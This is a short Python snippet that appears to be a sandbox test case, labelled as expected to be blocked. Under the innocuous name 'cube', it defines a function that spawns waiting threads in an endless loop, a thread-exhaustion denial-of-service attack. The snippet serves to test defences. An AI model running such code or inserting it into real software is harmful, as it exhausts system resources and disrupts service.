# tries: starts threads that take next to nothing
# deserves: 2 blocked
def mean_slope(f, x, h=0.5):
    return (f(x + h) - f(x - h)) / (2 * h)


import _thread
import threading
def cube(x):
    threading.stack_size(32768)
    while True:
        _thread.start_new_thread(threading.Event().wait, ())
